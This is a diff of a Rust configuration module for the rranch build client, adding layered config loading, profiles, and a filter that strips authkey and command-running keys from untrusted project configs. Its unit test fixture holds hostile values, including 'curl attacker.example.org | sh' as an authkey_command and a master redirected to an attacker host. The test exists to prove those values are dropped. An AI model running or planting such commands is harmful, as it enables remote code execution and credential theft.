@@ -1,22 +1,67 @@
-use std::{path::Path, process::exit};
+use std::{
+    collections::HashMap,
+    path::{Path, PathBuf},
+};
 
-use log::error;
+use console::Style;
+use log::{trace, warn};
 use serde_derive::{Deserialize, Serialize};
+use toml::{Table, Value};
 
-use super::{config_client::Client, config_master::Master, config_templates::Templates};
+use super::{
+    config_bump::Bump,
+    config_cache::Cache,
+    config_client::Client,
+    config_layers::{Layers, Origin, OVERRIDES},
+    config_master::Master,
+    config_profile::Profile,
+    config_templates::Templates,
+};
 
 #[derive(Deserialize, Serialize, Debug)]
 pub struct Config {
+    default_profile: Option<String>,
     master: Option<Master>,
     client: Option<Client>,
     templates: Option<Templates>,
+    cache: Option<Cache>,
+    bump: Option<Bump>,
+    profiles: Option<HashMap<String, Profile>>,
+    // name of the profile applied on top of [master] and [client]
+    #[serde(skip)]
+    profile: Option<String>,
+    // [master] without the profile and overrides applied
+    #[serde(skip)]
+    base_master: Option<Master>,
+    #[serde(skip)]
+    layers: Layers,
 }
 
+const SYSTEM_CONFIG: &str = "/etc/rranch.toml";
+const PROJECT_CONFIG: &str = ".rranch.toml";
+
+const TOP_KEYS: &[&str] = &["default_profile", "master", "client", "templates", "cache", "bump", "profiles"];
+const MASTER_KEYS: &[&str] = &["addr", "port", "authkey", "authkey_file", "authkey_command", "fetch_url", "mirror_layout"];
+const CLIENT_KEYS: &[&str] = &["name", "type", "loglevel", "editor"];
+const CACHE_KEYS: &[&str] = &["dir", "max_size_mb", "mirror"];
+const BUMP_KEYS: &[&str] = &["real_version"];
+// keys a project config cannot set, in [master] and [profiles.<name>] and in [client] and [profiles.<name>.client].
+// they decide where the authkey is sent or run commands, and a .rranch.toml comes with any cloned repository
+const PROJECT_DENIED_MASTER_KEYS: &[&str] = &["addr", "port", "authkey", "authkey_file", "authkey_command"];
+const PROJECT_DENIED_CLIENT_KEYS: &[&str] = &["editor"];
+
 impl Config {
     pub fn get_master(&self) -> Master {
         self.master.clone().unwrap_or_default()
     }
 
+    // the authkey of the effective master. authkey_command is only run if a trusted layer set it, never from a
+    // project config
+    pub fn get_authkey(&self) -> Result<String, std::io::Error> {
+        let trusted = self.layers.get_origin("master.authkey_command").is_none_or(Origin::is_trusted);
+        self.get_master().get_authkey(trusted)
+    }
+
     pub fn get_client(&self) -> Client {
         self.client.clone().unwrap_or_default()
     }
@@ -25,48 +70,362 @@ impl Config {
         self.templates.clone().unwrap_or_default()
     }
 
-    pub fn new_from_cfg(filename: &str, protver: u16) -> Result<Self, std::io::Error> {
-        let path = Path::new(filename);
-        if !path.exists() {
-            println!("Creating default config at {filename}. For more information visit https://github.com/GamingGuy003/rranch");
-            std::fs::create_dir_all(path.parent().unwrap_or(Path::new("")))?;
-            std::fs::write(filename, toml::to_string(&Config::default()).unwrap())?;
+    // directory holding pkgbuild templates, next to the user config
+    pub fn get_template_dir(&self) -> PathBuf {
+        user_config_path().with_file_name("rranch").join("templates")
+    }
+
+    pub fn get_cache(&self) -> Cache {
+        self.cache.clone().unwrap_or_default()
+    }
+
+    pub fn get_bump(&self) -> Bump {
+        self.bump.clone().unwrap_or_default()
+    }
+
+    pub fn get_profile_name(&self) -> Option<String> {
+        self.profile.clone()
+    }
+
+    // the profile name, or addr:port without one
+    pub fn get_master_name(&self) -> String {
+        self.get_profile_name().unwrap_or(format!("{}:{}", self.get_master().get_addr(), self.get_master().get_port()))
+    }
+
+    pub fn get_profile_names(&self) -> Vec<String> {
+        let mut names = self.profiles.clone().unwrap_or_default().into_keys().collect::<Vec<String>>();
+        names.sort();
+        names
+    }
+
+    pub fn show_profiles(&self) -> Result<(), std::io::Error> {
+        let bold = Style::new().bold();
+        let italic = Style::new().italic();
+        let green = Style::new().green();
+
+        let profiles = self.profiles.clone().unwrap_or_default();
+        println!("{}", bold.apply_to("Profiles"));
+        println!("{}", italic.apply_to(format!("  {:<20} {:<30} {}", "NAME", "MASTER", "FETCH URL")));
+        for name in self.get_profile_names() {
+            let master = self.base_master.clone().unwrap_or_default().overlay(&profiles.get(&name).map(|profile| profile.get_master()).unwrap_or_default());
+            let mut line = format!("{:<20} {:<30} {}", name, format!("{}:{}", master.get_addr(), master.get_port()), master.get_fetch_url());
+            if self.default_profile.as_deref() == Some(name.as_str()) {
+                line = format!("{line} (default)");
+            }
+            if self.profile.as_deref() == Some(name.as_str()) {
+                println!("{} {}", green.apply_to("*"), green.apply_to(line));
+            } else {
+                println!("  {line}");
+            }
         }
-        let file = std::fs::read_to_string(filename)?;
+        Ok(())
+    }
 
-        let config: Config = match toml::from_str(file.as_str()) {
-            Ok(config) => config,
-            Err(err) => {
-                error!("Failed to parse toml from config file {}: {}", filename, err);
-                exit(-1)
+    // returns a description of every problem with the effective config. the authkey is only checked if the
+    // master is going to be used and the editor only if something is going to be edited
+    pub fn validate(&self, master: bool, editor: bool) -> Vec<String> {
+        let mut problems = self.get_master().validate(master);
+        problems.extend(self.get_client().validate(editor));
+        problems.extend(self.get_bump().validate());
+        problems
+    }
+
+    // prints every effective value, optionally with the layer it came from
+    pub fn show_config(&self, origin: bool) -> Result<(), std::io::Error> {
+        let bold = Style::new().bold();
+        let italic = Style::new().italic();
+
+        println!("{}", bold.apply_to("Config"));
+        if origin {
+            println!("{}", italic.apply_to(format!("{:<35} {:<45} {}", "KEY", "VALUE", "ORIGIN")));
+        } else {
+            println!("{}", italic.apply_to(format!("{:<35} {}", "KEY", "VALUE")));
+        }
+        for (key, value, source) in self.layers.get_values() {
+            let value = if key.ends_with("authkey") { "\"<hidden>\"".to_owned() } else { value.to_string() };
+            if origin {
+                println!("{key:<35} {value:<45} {source}");
+            } else {
+                println!("{key:<35} {value}");
+            }
+        }
+        Ok(())
+    }
+
+    // resolves the config from built-in defaults, the system config, the user config, a project
+    // local .rranch.toml, the profile, RRANCH_* env vars and flags, each layer overriding the ones before
+    pub fn load(protver: u16, profile: Option<&str>, flags: &[(String, String)]) -> Result<Self, std::io::Error> {
+        let user_config = user_config_path();
+        if !user_config.exists() {
+            println!(
+                "Creating default config at {}. For more information visit https://github.com/GamingGuy003/rranch",
+                user_config.display()
+            );
+            std::fs::create_dir_all(user_config.parent().unwrap_or(Path::new("")))?;
+            std::fs::write(&user_config, toml::to_string(&Config::default()).unwrap())?;
+        }
+        Self::read(protver, profile, flags)
+    }
+
+    // resolves the config like load, but a missing user config is neither created nor announced on stdout, eg. for
+    // shell completion
+    pub fn read(protver: u16, profile: Option<&str>, flags: &[(String, String)]) -> Result<Self, std::io::Error> {
+        let mut layers = Layers::default();
+        layers.merge(&Table::try_from(Config::default()).map_err(std::io::Error::other)?, &Origin::Default);
+        for path in config_paths() {
+            trace!("Reading config from {}", path.display());
+            layers.merge(&read_config(&path)?, &Origin::File(path.display().to_string()));
+        }
+        if let Some(path) = project_config_path() {
+            trace!("Reading project config from {}", path.display());
+            let mut table = read_config(&path)?;
+            drop_project_denied_keys(&path, &mut table);
+            layers.merge(&table, &Origin::Project(path.display().to_string()));
+        }
+
+        // only the files know about profiles, so the effective master without one is kept for listing them
+        let base_master = layers.get("master").cloned().map(Value::try_into::<Master>).transpose().map_err(std::io::Error::other)?;
+        let profile = match profile.map(str::to_owned).or(layers.get("default_profile").and_then(Value::as_str).map(str::to_owned)) {
+            Some(name) => {
+                apply_profile(&mut layers, &name)?;
+                Some(name)
             }
+            None => None,
+        };
+
+        for ov in OVERRIDES {
+            if let Ok(value) = std::env::var(ov.get_env()) {
+                layers.set(ov.key, ov.parse(&value)?, Origin::Env(ov.get_env()));
+            }
+        }
+        for (flag, value) in flags {
+            if let Some(ov) = OVERRIDES.iter().find(|ov| ov.long == flag.trim_start_matches('-')) {
+                layers.set(ov.key, ov.parse(value)?, Origin::Flag(flag.clone()));
+            }
+        }
+
+        let config: Config = match Value::Table(layers.get_table()).try_into() {
+            Ok(config) => config,
+            Err(err) => return Err(std::io::Error::new(std::io::ErrorKind::InvalidData, format!("Invalid config: {err}"))),
         };
 
         Ok(Self {
-            master: Some(Master::new(
-                Some(config.get_master().get_addr()),
-                Some(config.get_master().get_port()),
-                Some(config.get_master().get_authkey()),
-                Some(config.get_master().get_fetch_url()),
-            )),
-            client: Some(Client::new(
-                Some(config.get_client().get_name()),
-                Some(config.get_client().get_type()),
-                Some(config.get_client().get_loglevel()),
-                Some(config.get_client().get_editor()),
-                Some(protver),
-            )),
-            templates: Some(config.get_templates()),
+            client: Some(config.get_client().overlay(&Client::new(None, None, None, None, Some(protver)))),
+            profile,
+            base_master,
+            layers,
+            ..config
         })
     }
 }
 
+// $XDG_CONFIG_HOME/rranch.toml, falling back to ~/.config/rranch.toml
+pub fn user_config_path() -> PathBuf {
+    std::env::var_os("XDG_CONFIG_HOME")
+        .filter(|dir| !dir.is_empty())
+        .map(PathBuf::from)
+        .unwrap_or(dirs::home_dir().unwrap_or_default().join(".config"))
+        .join("rranch.toml")
+}
+
+// existing config files from lowest to highest priority, without the project config
+fn config_paths() -> Vec<PathBuf> {
+    [PathBuf::from(SYSTEM_CONFIG), user_config_path()].into_iter().filter(|path| path.is_file()).collect()
+}
+
+// the closest .rranch.toml from the working directory upwards
+fn project_config_path() -> Option<PathBuf> {
+    std::env::current_dir()
+        .unwrap_or_default()
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG))
+        .find(|path| path.is_file())
+}
+
+// removes the keys a project config cannot set from table, warning about each of them
+fn drop_project_denied_keys(path: &Path, table: &mut Table) {
+    let mut dropped = Vec::new();
+    let mut remove = |table: Option<&mut Value>, prefix: &str, keys: &[&str]| {
+        if let Some(table) = table.and_then(Value::as_table_mut) {
+            dropped.extend(keys.iter().filter(|key| table.remove(**key).is_some()).map(|key| format!("{prefix}.{key}")));
+        }
+    };
+
+    remove(table.get_mut("master"), "master", PROJECT_DENIED_MASTER_KEYS);
+    remove(table.get_mut("client"), "client", PROJECT_DENIED_CLIENT_KEYS);
+    for (name, profile) in table.get_mut("profiles").and_then(Value::as_table_mut).into_iter().flatten() {
+        remove(Some(&mut *profile), &format!("profiles.{name}"), PROJECT_DENIED_MASTER_KEYS);
+        remove(profile.get_mut("client"), &format!("profiles.{name}.client"), PROJECT_DENIED_CLIENT_KEYS);
+    }
+
+    for key in dropped {
+        warn!("Ignoring {key} in {}, project configs cannot set it. Set it in the user config instead", path.display());
+    }
+}
+
+fn read_config(path: &Path) -> Result<Table, std::io::Error> {
+    let file = match std::fs::read_to_string(path) {
+        Ok(file) => file,
+        Err(err) => return Err(std::io::Error::new(err.kind(), format!("Failed to read config file {}: {}", path.display(), err))),
+    };
+
+    // parsing into the config first reports type errors together with the file they are in
+    let table = match toml::from_str::<Config>(&file).and_then(|_| toml::from_str::<Table>(&file)) {
+        Ok(table) => table,
+        Err(err) => return Err(std::io::Error::new(std::io::ErrorKind::InvalidData, format!("Invalid config file {}:\n{}", path.display(), err))),
+    };
+    warn_unknown_keys(path, &table);
+    warn_readable_authkey(path, &table);
+    Ok(table)
+}
+
+// misspelled keys would otherwise silently fall back to their defaults
+fn warn_unknown_keys(path: &Path, table: &Table) {
+    let keys = |table: Option<&Value>| table.and_then(Value::as_table).map(|table| table.keys().cloned().collect::<Vec<String>>()).unwrap_or_default();
+    let mut unknown = Vec::new();
+
+    unknown.extend(table.keys().filter(|key| !TOP_KEYS.contains(&key.as_str())).cloned());
+    unknown.extend(keys(table.get("master")).into_iter().filter(|key| !MASTER_KEYS.contains(&key.as_str())).map(|key| format!("master.{key}")));
+    unknown.extend(keys(table.get("client")).into_iter().filter(|key| !CLIENT_KEYS.contains(&key.as_str())).map(|key| format!("client.{key}")));
+    unknown.extend(keys(table.get("cache")).into_iter().filter(|key| !CACHE_KEYS.contains(&key.as_str())).map(|key| format!("cache.{key}")));
+    unknown.extend(keys(table.get("bump")).into_iter().filter(|key| !BUMP_KEYS.contains(&key.as_str())).map(|key| format!("bump.{key}")));
+    for (name, profile) in table.get("profiles").and_then(Value::as_table).cloned().unwrap_or_default() {
+        unknown.extend(
+            keys(Some(&profile))
+                .into_iter()
+                .filter(|key| key != "client" && !MASTER_KEYS.contains(&key.as_str()))
+                .map(|key| format!("profiles.{name}.{key}")),
+        );
+        unknown.extend(
+            keys(profile.get("client"))
+                .into_iter()
+                .filter(|key| !CLIENT_KEYS.contains(&key.as_str()))
+                .map(|key| format!("profiles.{name}.client.{key}")),
+        );
+    }
+
+    for key in unknown {
+        warn!("Unknown key {key} in {}, it is ignored", path.display());
+    }
+}
+
+// warns if a config file holding an authkey can be read by other users
+fn warn_readable_authkey(path: &Path, table: &Table) {
+    let profiles = table.get("profiles").and_then(Value::as_table).map(|profiles| profiles.values().collect::<Vec<&Value>>()).unwrap_or_default();
+    if !profiles.into_iter().chain(table.get("master")).any(|master| master.get("authkey").is_some()) {
+        return;
+    }
+
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(path).map(|meta| meta.permissions().mode()).unwrap_or_default();
+        if mode & 0o044 != 0 {
+            warn!(
+                "{} contains an authkey but is readable by group or others (mode {:o}). Restrict it with chmod 600 or move the key to authkey_file or authkey_command",
+                path.display(),
+                mode & 0o777
+            );
+        }
+    }
+}
+
+// merges [profiles.<name>] into [master] and [profiles.<name>.client] into [client]
+fn apply_profile(layers: &mut Layers, name: &str) -> Result<(), std::io::Error> {
+    let mut profile = match layers.get(&format!("profiles.{name}")).and_then(Value::as_table) {
+        Some(profile) => profile.clone(),
+        None => {
+            let names = layers.get("profiles").and_then(Value::as_table).map(|profiles| profiles.keys().cloned().collect::<Vec<String>>()).unwrap_or_default();
+            return Err(std::io::Error::new(
+                std::io::ErrorKind::NotFound,
+                format!("Profile {name} does not exist, configured profiles: {}", names.join(", ")),
+            ));
+        }
+    };
+
+    trace!("Using profile {name}");
+    let mut table = Table::new();
+    if let Some(client) = profile.remove("client") {
+        table.insert("client".to_owned(), client);
+    }
+    table.insert("master".to_owned(), Value::Table(profile));
+    layers.merge(&table, &Origin::Profile(name.to_owned()));
+    Ok(())
+}
+
 impl Default for Config {
     fn default() -> Self {
         Self {
+            default_profile: None,
             master: Some(Master::default()),
             client: Some(Client::default()),
             templates: Some(Templates::default()),
+            cache: Some(Cache::default()),
+            bump: Some(Bump::default()),
+            profiles: None,
+            profile: None,
+            base_master: None,
+            layers: Layers::default(),
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use std::path::Path;
+
+    use toml::Table;
+
+    use super::drop_project_denied_keys;
+
+    #[test]
+    fn project_configs_cannot_redirect_the_master_or_run_commands() {
+        let mut table = toml::from_str::<Table>(
+            r#"
+            default_profile = "evil"
+
+            [master]
+            addr = "attacker.example.org"
+            port = 4444
+            authkey = "stolen"
+            authkey_file = "/tmp/key"
+            authkey_command = "curl attacker.example.org | sh"
+            fetch_url = "https://mirror.example.org"
+
+            [client]
+            editor = "./run-me.sh"
+            loglevel = "debug"
+
+            [profiles.evil]
+            addr = "attacker.example.org"
+            authkey_command = "touch /tmp/pwned"
+            fetch_url = "https://mirror.example.org"
+
+            [profiles.evil.client]
+            editor = "./run-me.sh"
+            "#,
+        )
+        .unwrap();
+
+        drop_project_denied_keys(Path::new("/tmp/repo/.rranch.toml"), &mut table);
+
+        let expected = toml::from_str::<Table>(
+            r#"
+            default_profile = "evil"
+
+            [master]
+            fetch_url = "https://mirror.example.org"
+
+            [client]
+            loglevel = "debug"
+
+            [profiles.evil]
+            fetch_url = "https://mirror.example.org"
+
+            [profiles.evil.client]
+            "#,
+        )
+        .unwrap();
+        assert_eq!(table, expected);
+    }
+}